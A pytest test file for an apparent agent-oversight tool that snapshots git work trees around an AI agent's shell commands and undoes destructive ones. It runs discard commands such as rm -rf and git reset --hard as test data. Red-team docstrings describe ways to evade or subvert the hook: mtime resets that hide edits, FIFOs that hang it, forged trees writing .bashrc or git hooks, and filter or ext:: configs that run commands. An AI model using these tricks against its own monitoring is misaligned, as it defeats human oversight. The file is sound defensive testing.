"""The work tree as ground truth: real commands in scratch git repositories.

Each test runs the hook before and after a real command (as a host would),
then checks what the session recorded and that ``agentreflex undo`` puts the
work back byte for byte.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from agentreflex.core.state.store import SessionStore
from agentreflex.core.testing import hook_env, shell_hook
from agentreflex.core.worktree import observe, snapshot, undocmd

GIT_ENV = {
    "GIT_AUTHOR_NAME": "t",
    "GIT_AUTHOR_EMAIL": "t@example.invalid",
    "GIT_COMMITTER_NAME": "t",
    "GIT_COMMITTER_EMAIL": "t@example.invalid",
    "GIT_CONFIG_NOSYSTEM": "1",
}


def sh(cwd: Path, command: str) -> None:
    env = {**os.environ, **GIT_ENV}
    subprocess.run(command, shell=True, cwd=cwd, env=env, check=True, capture_output=True)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / "src" / "pkg").mkdir(parents=True)
    (root / "src" / "pkg" / "a.py").write_text("print('a')\n")
    (root / "src" / "b.py").write_text("print('b')\n")
    (root / "README").write_text("readme\n")
    (root / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (root / "run.sh").chmod(0o755)
    (root / ".gitignore").write_text("*.log\n.agentreflex/\n")
    sh(root, "git init -q && git add -A && git commit -qm init")
    # uncommitted work: a modified tracked file, an untracked file, a binary one, a staged edit
    (root / "src" / "pkg" / "a.py").write_text("print('a, edited')\n")
    (root / "src" / "new.py").write_text("NEW = 1\n")
    (root / "blob.bin").write_bytes(bytes(range(256)) * 4)
    (root / "README").write_text("readme, staged\n")
    sh(root, "git add README")
    (root / "debug.log").write_text("ignored\n")
    return root


def tree_bytes(root: Path) -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    for p in root.rglob("*"):
        rel = p.relative_to(root).as_posix()
        if rel.startswith((".git/", ".agentreflex")) or rel == ".git" or not p.is_file():
            continue
        if p.name.endswith(".log"):
            continue  # ignored files are not the project's work
        out[rel] = p.read_bytes() + (b"+x" if os.access(p, os.X_OK) else b"")
    return out


def hook(root: Path, kind: str, command: str, tool_id: str, cwd: Path | None = None) -> Any:
    return shell_hook(
        root, kind, command, hook_env(root), session="wt-session", call=tool_id, cwd=cwd
    )


def run_tool(root: Path, command: str, tool_id: str = "t1") -> dict[str, Any]:
    """Pre hook, the real command, post hook; the changes the session recorded."""
    hook(root, "PreToolUse", command, tool_id)
    sh(root, command)
    hook(root, "PostToolUse", command, tool_id)
    state, _ = SessionStore(str(root.parent / "state"), "wt-session").load()
    changes: list[dict[str, Any]] = state.notes.get("worktree_changes", [])
    return changes[-1] if changes else {}


DISCARDS = [
    "git reset --hard",
    "git checkout -- .",
    "git clean -fdx",
    "rm -rf src",
    "find . -name '*.py' -delete",
    "git ls-files | xargs rm -f",
    "python3 -c \"import os; [os.remove(p) for p in ('src/b.py', 'src/new.py', 'blob.bin')]\"",
]


@pytest.mark.parametrize("command", DISCARDS)
def test_a_discard_is_undone_byte_for_byte(
    repo: Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree_bytes(repo)
    changes = run_tool(repo, command)
    assert tree_bytes(repo) != before
    assert changes["deleted"] or changes["modified"]
    assert undocmd.main(["--cwd", str(repo)]) == 0
    listed = capsys.readouterr().out
    assert command[:40] in listed or "python3" in listed
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before


def test_stash_drop_of_a_stash_made_in_the_session_is_undone(repo: Path) -> None:
    before = tree_bytes(repo)
    run_tool(repo, "git stash -u", "t1")
    assert tree_bytes(repo) != before
    run_tool(repo, "git stash drop", "t2")
    # the snapshot before `git stash` holds the work the dropped stash held
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before


EDITS = [
    ("sed -E -i 's/(print)/\\1 /' src/b.py", "src/b.py"),
    ("perl -pi -e 's/b/B/' src/b.py", "src/b.py"),
    ("python3 -c \"open('src/b.py','w').write('x = 1\\n')\"", "src/b.py"),
    ("dd if=/dev/zero of=src/b.py bs=4 count=1 status=none", "src/b.py"),
]


@pytest.mark.parametrize(("command", "path"), EDITS)
def test_an_edit_by_any_program_is_seen(repo: Path, command: str, path: str) -> None:
    changes = run_tool(repo, command)
    assert changes["modified"] == [path]
    assert changes["created"] == [] and changes["deleted"] == []


def test_a_same_size_edit_whose_mtime_is_put_back_is_seen(repo: Path) -> None:
    """red-team rt42: the look before and after a command compared each listed file's size,
    mtime, inode and mode.  An edit of a file already changed (git lists it before and
    after) that kept its size and put its mtime back (``touch -r``, ``os.utime``) was no
    change: the done reflex took the command for no edit, and tests run before it for
    tests of the code as it is.  The ctime, which no program can set, is compared now."""
    edit = (
        "python3 -c \"import os; p = 'src/pkg/a.py'; st = os.stat(p); t = open(p).read(); "
        "open(p, 'w').write(t.replace('edited', 'EDITED')); "
        'os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))"'
    )
    changes = run_tool(repo, edit)
    assert (repo / "src" / "pkg" / "a.py").read_text() == "print('a, EDITED')\n"
    assert changes["modified"] == ["src/pkg/a.py"]


def test_git_apply_and_patch_are_seen(repo: Path) -> None:
    diff = (
        "--- a/src/b.py\n+++ b/src/b.py\n@@ -1 +1 @@\n-print('b')\n+print('patched')\n"
        "--- /dev/null\n+++ b/src/c.py\n@@ -0,0 +1 @@\n+c = 3\n"
    )
    (repo / "fix.diff").write_text(diff)
    run_tool(repo, "true", "t0")
    changes = run_tool(repo, "git apply fix.diff", "t1")
    assert changes["modified"] == ["src/b.py"] and changes["created"] == ["src/c.py"]
    sh(repo, "git checkout -- src/b.py && rm src/c.py")
    changes = run_tool(repo, "patch -s -p1 < fix.diff", "t2")
    assert changes["modified"] == ["src/b.py"] and changes["created"] == ["src/c.py"]


def test_undo_refuses_to_overwrite_newer_work_unless_forced(repo: Path) -> None:
    run_tool(repo, "git reset --hard")
    (repo / "src" / "pkg" / "a.py").write_text("newer work\n")
    assert undocmd.main(["1", "--cwd", str(repo)]) == 1
    assert (repo / "src" / "pkg" / "a.py").read_text() == "newer work\n"
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"  # the rest came back
    assert undocmd.main(["1", "src/pkg", "--force", "--cwd", str(repo)]) == 0
    assert (repo / "src" / "pkg" / "a.py").read_text() == "print('a, edited')\n"


@pytest.mark.parametrize("planted", [False, True])
def test_an_index_entry_naming_newer_work_does_not_let_undo_overwrite_it(
    repo: Path, planted: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    """Undo writes over a file equal to the index's blob: a discard leaves that, and git
    holds it.  A process the agent left running set ``a.py``'s index entry to the hash of
    the user's newer work without writing the object (``update-index --cacheinfo``), or
    wrote a loose object of that id holding other bytes; undo took the work for the
    repository's and wrote the snapshot over it, with nothing left anywhere."""
    import zlib

    run_tool(repo, "git reset --hard")
    target = repo / "src" / "pkg" / "a.py"
    target.write_text("newer work\n")
    oid = subprocess.run(
        ["git", "hash-object", str(target)], cwd=repo, check=True, capture_output=True, text=True
    ).stdout.strip()
    sh(repo, f"git update-index --cacheinfo 100644,{oid},src/pkg/a.py")
    if planted:
        loose = repo / ".git" / "objects" / oid[:2] / oid[2:]
        loose.parent.mkdir(exist_ok=True)
        loose.write_bytes(zlib.compress(b"blob 4\0junk"))
    assert undocmd.main(["1", "--cwd", str(repo)]) == 1
    assert target.read_text() == "newer work\n"
    assert "src/pkg/a.py: HEAD or the index names its bytes" in capsys.readouterr().err
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"  # the rest came back


def test_dry_run_shows_the_diff_and_changes_nothing(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run_tool(repo, "git checkout -- .")
    after = tree_bytes(repo)
    assert undocmd.main(["1", "--dry-run", "--cwd", str(repo)]) == 0
    assert "+print('a, edited')" in capsys.readouterr().out
    assert tree_bytes(repo) == after


def test_a_snapshot_is_invisible_to_the_repository(repo: Path) -> None:
    run_tool(repo, "git reset --hard")
    res = subprocess.run(
        ["git", "log", "--all", "--oneline"], cwd=repo, capture_output=True, text=True
    )
    assert len(res.stdout.splitlines()) == 1
    refs = subprocess.run(["git", "for-each-ref"], cwd=repo, capture_output=True, text=True)
    assert len(refs.stdout.splitlines()) == 1
    stash = subprocess.run(["git", "stash", "list"], cwd=repo, capture_output=True, text=True)
    assert stash.stdout == ""


def test_the_index_and_work_tree_are_untouched_by_a_snapshot(repo: Path) -> None:
    index = (repo / ".git" / "index").read_bytes()
    before = tree_bytes(repo)
    found = observe.find_repo(str(repo))
    assert found is not None
    assert snapshot.take(found, "x", "s") is not None
    assert (repo / ".git" / "index").read_bytes() == index
    assert tree_bytes(repo) == before


def test_past_the_size_bound_what_fits_is_saved_and_the_rest_named(repo: Path) -> None:
    found = observe.find_repo(str(repo))
    assert found is not None
    snap = snapshot.take(found, "git reset --hard", "s", max_bytes=10)
    assert snap is not None and snap.tree and snap.files == ["src/new.py"]  # 8 bytes
    assert "bound" in snap.skipped and "src/pkg/a.py" in snap.skipped


def test_snapshots_are_pruned_by_count(repo: Path) -> None:
    """Each of these holds a version of new.py no newer one does: kept past the newest
    ``keep``, up to ``most`` in all."""
    found = observe.find_repo(str(repo))
    assert found is not None
    for i in range(5):
        (repo / "src" / "new.py").write_text(f"v{i}\n")
        snapshot.take(found, f"cmd {i}", "s")
    snapshot.prune(found, keep=2)
    assert len(snapshot.listing(found)) == 5
    snapshot.prune(found, keep=2, most=3)
    assert [s.command for s in snapshot.listing(found)] == ["cmd 2", "cmd 3", "cmd 4"]


def test_a_snapshot_whose_work_a_newer_one_holds_is_pruned_first(repo: Path) -> None:
    """Past the newest ``keep``, a snapshot goes when the next one holds each of its files
    as it had them (commands that only added files); the one before a deletion stays."""
    found = observe.find_repo(str(repo))
    assert found is not None
    snapshot.take(found, "before rm", "s")
    (repo / "src" / "new.py").unlink()
    for i in range(4):
        snapshot.take(found, f"add {i}", "s")
        (repo / f"added{i}.txt").write_text(f"{i}\n")
    snapshot.take(found, "last", "s")
    snapshot.prune(found, keep=2)
    kept = snapshot.listing(found)
    assert [s.command for s in kept] == ["before rm", "add 3", "last"]
    assert kept[0].covered is False
    assert "src/new.py" in kept[0].files


def test_what_the_hook_hashes_after_a_command_is_bounded(repo: Path) -> None:
    """A command that writes gigabytes (a sparse file costs it nothing) must not make the
    hook hash them past the host's wait: the hook records only what a snapshot could hold."""
    found = observe.find_repo(str(repo))
    assert found is not None
    with open(repo / "big.bin", "wb") as fh:
        fh.truncate(snapshot.MAX_BYTES + 1)
    paths = ["big.bin", "src/new.py"]
    assert list(snapshot.current_blobs(found, paths, snapshot.MAX_BYTES)) == ["src/new.py"]
    assert list(snapshot.current_blobs(found, paths)) == paths  # undo compares them all


def test_a_forged_snapshot_number_never_names_what_prune_removes(
    repo: Path, tmp_path: Path
) -> None:
    """A ``meta.json`` written where a command could (``"n": "/home/u"``): prune removes
    the snapshot's own folder, ``store/N``, and nothing the file names."""
    found = observe.find_repo(str(repo))
    assert found is not None
    precious = tmp_path / "home"
    (precious / ".ssh").mkdir(parents=True)
    (precious / ".ssh" / "id_ed25519").write_text("key\n")
    forged = Path(snapshot.store_dir(found)) / "1"
    forged.mkdir(parents=True)
    meta = {"n": str(precious), "ts": 0, "command": "x", "session": "s"}
    (forged / "meta.json").write_text(json.dumps(meta))
    assert [s.n for s in snapshot.listing(found)] == [1]
    snapshot.prune(found)
    assert (precious / ".ssh" / "id_ed25519").read_text() == "key\n"
    assert not forged.exists()


def test_undo_writes_only_work_tree_files(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A snapshot tree holding ``.git/hooks/pre-commit`` and ``../home/...`` (made with
    ``git mktree``), or a path through a folder since replaced by a link to home:
    the user's own ``agentreflex undo`` runs outside any boundary and writes none."""
    home = tmp_path / "home"  # the test's HOME (conftest)
    home.mkdir(exist_ok=True)
    had = sorted(home.rglob("*"))
    found = observe.find_repo(str(repo))
    assert found is not None
    (repo / "lib").mkdir()
    (repo / "lib" / "x.py").write_text("X = 1\n")
    snap = snapshot.take(found, "rm -rf lib", "s")
    assert snap.tree
    sh(repo, "rm -rf lib && ln -s ../home lib")

    def mktree(lines: str, env: dict[str, str] | None = None) -> str:
        done = subprocess.run(
            ["git", "mktree"], cwd=repo, env=env, input=lines, capture_output=True, text=True
        )
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    def blob(text: str) -> str:
        done = subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=repo,
            input=text,
            capture_output=True,
            text=True,
            check=True,
        )
        return done.stdout.strip()

    hook = mktree(f"100755 blob {blob('touch /tmp/x')}\tpre-commit\n")
    hooks = mktree(f"040000 tree {hook}\thooks\n")
    rc = mktree(f"100644 blob {blob('evil')}\t.bashrc\n")
    up = mktree(f"040000 tree {rc}\thome\n")
    objects = {  # the snapshot's own object store, which borrows the repository's
        **os.environ,
        "GIT_OBJECT_DIRECTORY": str(Path(snapshot.store_dir(found)) / str(snap.n) / "objects"),
        "GIT_ALTERNATE_OBJECT_DIRECTORIES": found.objects,
    }
    listing = subprocess.run(
        ["git", "ls-tree", snap.tree],
        cwd=repo,
        env=objects,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    forged = mktree(f"{listing}040000 tree {hooks}\t.git\n040000 tree {up}\t..\n", objects)
    meta = Path(snapshot.store_dir(found)) / str(snap.n) / "meta.json"
    meta.write_text(json.dumps({**json.loads(meta.read_text()), "tree": forged}))
    assert undocmd.main([str(snap.n), "--cwd", str(repo)]) == 1
    err = capsys.readouterr().err
    assert "never written: .git/hooks/pre-commit" in err and "never written: ../home/.bashrc" in err
    assert "never written: lib/x.py" in err  # lib is now a link to home
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert sorted(home.rglob("*")) == had
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"  # the rest is restored


SENTINEL_CONFIG = """
[core]
    fsmonitor = {hook}
    hooksPath = {hooks}
    pager = {hook}
[filter "evil"]
    clean = {hook}
    smudge = {hook}
    process = {hook}
    required = true
[diff]
    external = {hook}
"""


def test_nothing_the_repository_configures_runs(repo: Path, tmp_path: Path) -> None:
    sentinel = tmp_path / "ran"
    hook_script = tmp_path / "evil.sh"
    hook_script.write_text(f"#!/bin/sh\ntouch {sentinel}\ncat\n")
    hook_script.chmod(0o755)
    hooks = repo / ".git" / "hooks"
    for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {sentinel}\n")
        (hooks / name).chmod(0o755)
    with open(repo / ".git" / "config", "a") as fh:
        fh.write(SENTINEL_CONFIG.format(hook=hook_script, hooks=hooks))
    (repo / ".gitattributes").write_text("*.py filter=evil\n")
    before = tree_bytes(repo)
    changes = run_tool(repo, "rm -rf src")
    assert "src/b.py" in changes["deleted"]
    assert undocmd.main(["1", "--dry-run", "--cwd", str(repo)]) == 0
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before
    assert not sentinel.exists()


@pytest.mark.parametrize("driver", ["a=b", "a\x1cb"])
def test_a_filter_driver_of_any_name_is_blanked(repo: Path, tmp_path: Path, driver: str) -> None:
    """red-team rt31: ``-c KEY=VALUE`` splits at the first '=' (``filter.a=b.clean=`` set
    ``filter.a``), and the listing was cut at a space and at every line end
    ``str.splitlines`` knows (``\\x1c``): the driver the attribute names ran in the look's
    ``git status`` of a touched tracked file."""
    sentinel = tmp_path / "ran"
    sh(repo, f"git config 'filter.{driver}.clean' 'sh -c \"touch {sentinel}; cat\"'")
    (repo / ".gitattributes").write_text(f"*.py filter={driver}\n")
    os.utime(repo / "src" / "b.py", (0, 0))  # same size, another time: git reads it again
    found = observe.find_repo(str(repo))
    assert found is not None
    assert observe.status_entries(found) is not None
    assert snapshot.take(found, "look", "s") is not None
    assert not sentinel.exists()


def test_a_partial_clones_missing_object_is_never_fetched(repo: Path, tmp_path: Path) -> None:
    """red-team rt31: the repository's ``protocol.ext.allow=always`` is read before
    ``-c protocol.allow=never``, and git fetches a partial clone's missing object from its
    promisor remote itself (an ``ext::`` url runs a command)."""
    sentinel = tmp_path / "ran"
    sh(
        repo,
        "git config core.repositoryformatversion 1 && git config extensions.partialClone origin",
    )
    sh(repo, f"git config remote.origin.url 'ext::sh -c touch% {sentinel}'")
    sh(repo, "git config protocol.ext.allow always")
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True, check=True
    ).stdout.strip()
    (repo / ".git" / "objects" / head[:2] / head[2:]).unlink()
    found = observe.find_repo(str(repo))
    assert found is not None
    observe.status_entries(found)
    snapshot.take(found, "look", "s")
    assert not sentinel.exists()


def test_a_held_index_lock_or_corrupt_index_still_snapshots(repo: Path) -> None:
    (repo / ".git" / "index.lock").write_bytes(b"")
    found = observe.find_repo(str(repo))
    assert found is not None
    assert snapshot.take(found, "held lock", "s") is not None
    (repo / ".git" / "index.lock").unlink()
    before = tree_bytes(repo)
    (repo / ".git" / "index").write_bytes(b"DIRC garbage")
    snap = snapshot.take(found, "corrupt index", "s")
    assert snap is not None and snap.tree
    sh(repo, "rm -rf src")
    assert undocmd.main([str(snap.n), "--cwd", str(repo)]) == 0
    assert {k: v for k, v in tree_bytes(repo).items()} == before


def test_a_fifo_where_the_index_goes_does_not_hang_the_snapshot(repo: Path) -> None:
    """``rm .git/index && mkfifo .git/index`` (the rest of .git is writable in the boundary):
    copying it would wait for a writer forever, and a hook that hangs until the host's
    timeout lets the tool call through.  The snapshot starts from HEAD's tree instead."""
    import threading

    found = observe.find_repo(str(repo))
    assert found is not None
    (repo / ".git" / "index").unlink()
    os.mkfifo(repo / ".git" / "index")
    taken: list[object] = []
    worker = threading.Thread(
        target=lambda: taken.append(snapshot.take(found, "fifo index", "s")), daemon=True
    )
    worker.start()
    worker.join(60)
    assert not worker.is_alive() and taken and taken[0] is not None


def test_a_fifo_the_digest_would_read_and_git_does_not_does_not_hang_the_hook(
    repo: Path,
) -> None:
    """red-team rt31: the snapshot's digest reads the ref HEAD names with a plain ``open``
    (the hook's own process, no timeout), and strips the name as Python strips (a no-break
    space too, which git keeps in a branch name): HEAD on ``refs/heads/x\\u00a0`` made it
    open ``refs/heads/x``, a FIFO git never reads, and the hook before the next shell
    command waited for a writer forever (a host that stops waiting runs the command as
    the agent wrote it, outside any boundary)."""
    import threading

    sh(repo, "git stash -u -q && git branch -m \"$(printf 'x\\302\\240')\" && git stash pop -q")
    fifo = repo / ".git" / "refs" / "heads" / "x"
    os.mkfifo(fifo)
    done: list[object] = []
    worker = threading.Thread(
        target=lambda: done.append(hook(repo, "PreToolUse", "rm -rf src", "f1")), daemon=True
    )
    worker.start()
    worker.join(30)
    hung = worker.is_alive()
    if hung:  # let the hook go: a writer opens the FIFO
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(30)
    assert not hung


def test_a_fifo_in_a_nested_repositorys_snapshot_store_does_not_hang_the_hook(
    repo: Path,
) -> None:
    """red-team rt31: a repository the agent made (``git init sub; cd sub``: the host follows
    the ``cd``) keeps its snapshots in its own ``.git/agentreflex``, the agent's to write;
    ``listing`` read them with a plain ``open``, and a FIFO there held the hook before the
    next shell command for ever."""
    import threading

    sub = repo / "sub"
    sh(repo, "git init -q sub && echo x > sub/f")
    store = sub / ".git" / "agentreflex" / "snapshots" / "1"
    store.mkdir(parents=True)
    name = "meta.json"
    os.mkfifo(store / name)
    done: list[object] = []

    def call() -> None:
        hook(repo, "PreToolUse", "echo y > f", "n1", cwd=sub)
        (sub / "f").write_text("y\n")
        done.append(hook(repo, "PostToolUse", "echo y > f", "n1", cwd=sub))

    worker = threading.Thread(target=call, daemon=True)
    worker.start()
    worker.join(30)
    hung = worker.is_alive()
    if hung:  # let the hook go: a writer opens the FIFO
        os.close(os.open(store / name, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(30)
    assert not hung


def test_detached_head_and_worktrees(repo: Path, tmp_path: Path) -> None:
    sh(repo, "git stash -u -q && git checkout -q --detach && git stash pop -q")
    sh(repo, f"git worktree add -q {tmp_path / 'wt2'}")
    wt2 = tmp_path / "wt2"
    (wt2 / "src" / "b.py").write_text("wt2 edit\n")
    before = tree_bytes(wt2)
    # a session of its own: a session's calls from a folder outside its project are not
    # observed there (red-team rt31: a repository the agent made at /tmp/gemini)
    shell_hook(wt2, "PreToolUse", "git reset --hard", hook_env(wt2), session="wt2", call="w1")
    sh(wt2, "git reset --hard")
    assert undocmd.main(["1", "--cwd", str(wt2)]) == 0
    assert tree_bytes(wt2) == before
    before = tree_bytes(repo)
    run_tool(repo, "git reset --hard")
    assert undocmd.main(["2", "--cwd", str(repo)]) == 0  # one store for the repository
    assert tree_bytes(repo) == before


def test_a_bare_repository_or_plain_folder_is_not_observed(tmp_path: Path) -> None:
    bare = tmp_path / "bare.git"
    sh(tmp_path, f"git init -q --bare {bare}")
    assert observe.find_repo(str(bare)) is None
    plain = tmp_path / "plain"
    plain.mkdir()
    assert observe.find_repo(str(plain)) is None
    assert undocmd.main(["--cwd", str(plain)]) == 2
    out = hook(plain, "PreToolUse", "rm -rf x", "p1")
    assert out.reply.exit_code == 0


def test_submodule_contents_are_left_to_the_submodule(repo: Path, tmp_path: Path) -> None:
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "s.txt").write_text("s\n")
    sh(sub, "git init -q && git add -A && git commit -qm s")
    sh(repo, f"git -c protocol.file.allow=always submodule add -q {sub} vendor/sub")
    before = tree_bytes(repo)
    run_tool(repo, "git reset --hard")
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    after = tree_bytes(repo)
    assert {k: v for k, v in after.items() if not k.startswith("vendor/")} == {
        k: v for k, v in before.items() if not k.startswith("vendor/")
    }


def test_the_cli_reaches_undo(repo: Path) -> None:
    res = subprocess.run(
        [sys.executable, "-m", "agentreflex.core.cli", "undo", "--cwd", str(repo)],
        capture_output=True,
        text=True,
    )
    assert res.returncode == 0 and "no snapshots" in res.stdout


def test_doctor_says_how_the_work_tree_is_observed(repo: Path, tmp_path: Path) -> None:
    from agentreflex.core.worktree.status import worktree_line

    assert "observed through git" in worktree_line(str(repo), True)
    assert "allow_undoable = asks: an in-project discard that asks" in worktree_line(
        str(repo), True, "asks"
    )
    assert "allow_undoable = off: discards ask or block" in worktree_line(str(repo), True)
    assert worktree_line(str(tmp_path), True).startswith("off: not a git work tree")
    assert "observe = false" in worktree_line(str(repo), False)
    from agentreflex.core.cli.doctor import diagnose

    lines = [c for c in diagnose(str(tmp_path))["checks"] if c["check"] == "work tree"]
    assert lines and "off" in lines[0]["detail"]


@pytest.mark.parametrize(("command", "path"), EDITS)
def test_an_edit_by_any_program_counts_as_the_sessions_last_change(
    repo: Path, command: str, path: str
) -> None:
    run_tool(repo, command)
    state, _ = SessionStore(str(repo.parent / "state"), "wt-session").load()
    last = state.actions[-1]
    assert last.changed == 1 and last.mutation
    assert state.counters.last_mutation_seq > state.counters.last_verification_seq


def test_a_command_that_changed_nothing_is_no_edit(repo: Path) -> None:
    run_tool(repo, "git status --short")
    state, _ = SessionStore(str(repo.parent / "state"), "wt-session").load()
    assert state.actions[-1].changed == 0
    assert state.counters.last_mutation_seq == 0


def test_with_a_corrupt_index_the_hook_still_snapshots_before_a_discard(repo: Path) -> None:
    before = tree_bytes(repo)
    (repo / ".git" / "index").write_bytes(b"DIRC garbage")
    hook(repo, "PreToolUse", "rm -rf src", "c1")  # git status fails: no facts, still a snapshot
    sh(repo, "rm -rf src")
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before


def test_the_status_line_says_how_to_undo(repo: Path) -> None:
    from agentreflex.core.cli.statusline import last_snapshot
    from agentreflex.core.state.store import SessionStore as Store

    run_tool(repo, "git reset --hard")
    log = Store(str(repo.parent / "state"), "wt-session").log_path
    assert last_snapshot(log) == 1
    assert last_snapshot(str(repo / "missing.log")) is None


def test_a_sparse_checkout_stays_sparse_after_undo(tmp_path: Path) -> None:
    root = tmp_path / "sparse"
    (root / "src").mkdir(parents=True)
    (root / "docs").mkdir()
    (root / "src" / "b.py").write_text("b\n")
    (root / "docs" / "d.txt").write_text("outside the cone\n")
    sh(root, "git init -q && git add -A && git commit -qm i && git sparse-checkout set src")
    assert not (root / "docs" / "d.txt").exists()
    (root / "src" / "b.py").write_text("edited\n")
    run_tool(root, "git reset --hard")
    assert undocmd.main(["1", "--cwd", str(root)]) == 0
    assert (root / "src" / "b.py").read_text() == "edited\n"
    assert not (root / "docs" / "d.txt").exists()  # never written outside the checkout


def test_fingerprints_whose_post_tool_never_came_are_bounded(repo: Path) -> None:
    from agentreflex.core.worktree import hook as wt_hook

    folder = repo.parent / "state" / "worktree"
    folder.mkdir(parents=True)
    for i in range(wt_hook.MAX_PENDING + 5):
        (folder / f"old{i}.json").write_text("{}")
        os.utime(folder / f"old{i}.json", (1000.0 + i, 1000.0 + i))
    hook(repo, "PreToolUse", "ls", "fresh")
    names = {p.name for p in folder.iterdir()}
    assert len(names) == wt_hook.MAX_PENDING + 1  # the newest kept, and this call's
    assert "old0.json" not in names and f"old{wt_hook.MAX_PENDING + 4}.json" in names


def test_the_worktree_config_section(tmp_path: Path) -> None:
    from agentreflex.core.config.settings import ConfigError, load_config

    home_cfg = Path(os.environ["XDG_CONFIG_HOME"]) / "agentreflex"
    home_cfg.mkdir(parents=True)
    (home_cfg / "config.toml").write_text("[worktree]\nobserve = false\nsnapshot_max_bytes = 5\n")
    config = load_config(str(tmp_path))
    assert config.worktree_observe is False and config.worktree_snapshot_max_bytes == 5
    (home_cfg / "config.toml").write_text("[worktree]\nobserve = 'no'\n")
    with pytest.raises(ConfigError, match="observe"):
        load_config(str(tmp_path))


def test_an_undo_is_recorded_beside_its_snapshot_and_listed(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from agentreflex.core.worktree import restored

    run_tool(repo, "git reset --hard")
    found = observe.find_repo(str(repo))
    assert found is not None
    snap_dir = Path(snapshot.store_dir(found)) / "1"
    meta = (snap_dir / "meta.json").read_bytes()
    assert restored.read(found, 1) == []
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    entries = restored.read(found, 1)
    assert len(entries) == 1 and entries[0]["failed"] == []
    assert entries[0]["paths"] == ["README", "src/pkg/a.py"]
    assert (snap_dir / "meta.json").read_bytes() == meta  # the snapshot itself is untouched
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0  # nothing left to write: no new entry
    assert len(restored.read(found, 1)) == 1
    capsys.readouterr()
    assert undocmd.main(["--cwd", str(repo)]) == 0
    assert "undone " in capsys.readouterr().out and ": 2 file(s)" in restored.describe(
        entries[0], str
    )


def test_an_unreadable_undo_record_is_kept_aside_not_overwritten(repo: Path) -> None:
    from agentreflex.core.worktree import restored

    run_tool(repo, "rm -rf src")
    found = observe.find_repo(str(repo))
    assert found is not None
    snap_dir = Path(snapshot.store_dir(found)) / "1"
    (snap_dir / "restored.json").write_text("{not json")
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert [e["paths"] for e in restored.read(found, 1)] == [
        ["src/b.py", "src/new.py", "src/pkg/a.py"]
    ]
    kept = [p for p in snap_dir.iterdir() if p.name.startswith("restored.json.unreadable-")]
    assert len(kept) == 1 and kept[0].read_text() == "{not json"
    assert restored.describe({"ts": "x", "paths": 3}, str) == "undone ?: 0 file(s)"
    restored.record(found, 99, ["a"], [])  # no such snapshot: nothing written
    assert not (Path(snapshot.store_dir(found)) / "99").exists()


def test_an_undo_whose_record_cannot_be_written_still_restores(
    repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from agentreflex.core.worktree import restored

    before = tree_bytes(repo)
    run_tool(repo, "git reset --hard")

    def refuse(*_: object) -> None:
        raise PermissionError(13, "read-only")

    monkeypatch.setattr(restored, "record", refuse)
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before
    assert "could not record the restore" in capsys.readouterr().err


def test_objects_written_in_process_are_gits_own(repo: Path) -> None:
    """Blobs are written by core, not git: git must read each one as it would its own."""
    big = os.urandom(100_000) + b"tail" * 50_000  # over the compression threshold
    (repo / "big.bin").write_bytes(big)
    (repo / "link").symlink_to("src/b.py")
    (repo / "fifo").unlink(missing_ok=True)
    os.mkfifo(repo / "fifo")  # not a file git saves; must not hang the snapshot
    found = observe.find_repo(str(repo))
    assert found is not None
    snap = snapshot.take(found, "objects", "s")
    assert snap is not None and snap.tree
    store = os.path.join(snapshot.store_dir(found), str(snap.n), "objects")
    env = {
        **os.environ,
        "GIT_OBJECT_DIRECTORY": store,
        "GIT_ALTERNATE_OBJECT_DIRECTORIES": found.objects,
    }
    for path, want in (("big.bin", big), ("link", b"src/b.py"), ("blob.bin", None)):
        oid = subprocess.run(
            ["git", "rev-parse", f"{snap.tree}:{path}"],
            cwd=repo,
            env=env,
            check=True,
            capture_output=True,
        ).stdout.strip()
        direct = (
            subprocess.run(
                ["git", "hash-object", "--no-filters", path],
                cwd=repo,
                check=True,
                capture_output=True,
            ).stdout.strip()
            if path != "link"
            else oid
        )
        assert oid == direct
        body = subprocess.run(
            ["git", "cat-file", "blob", oid.decode()],
            cwd=repo,
            env=env,
            check=True,
            capture_output=True,
        ).stdout
        assert want is None or body == want
    subprocess.run(
        ["git", "fsck", "--strict", "--no-dangling"],
        cwd=repo,
        env=env,
        check=True,
        capture_output=True,
    )
    (repo / "fifo").unlink()
    sh(repo, "rm big.bin link")
    assert undocmd.main([str(snap.n), "--cwd", str(repo)]) == 0
    assert (repo / "big.bin").read_bytes() == big and os.readlink(repo / "link") == "src/b.py"


